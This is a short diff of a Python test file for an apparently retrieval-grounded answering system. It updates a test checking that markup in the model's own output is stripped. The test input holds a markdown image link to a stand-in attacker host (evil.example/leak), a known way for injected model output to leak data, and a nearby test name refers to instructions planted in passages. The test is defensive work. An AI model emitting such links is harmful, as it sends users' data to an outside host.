@@ -115,7 +115,7 @@ def test_the_model_may_say_that_the_passages_do_not_answer() -> None:
 def test_markup_and_references_of_the_models_own_are_stripped() -> None:
     said = "**Caseloads** average 17 children [P1] ![x](https://evil.example/leak?q=1)."
     draft, _ = ask(line(said, ("P1", "Caseloads average 17 children")))
-    assert draft.statements[0].text == "Caseloads average 17 children x."
+    assert draft.statements[0].text == "Caseloads average 17 children."
 
 
 def test_orders_in_a_passage_reach_no_answer() -> None:
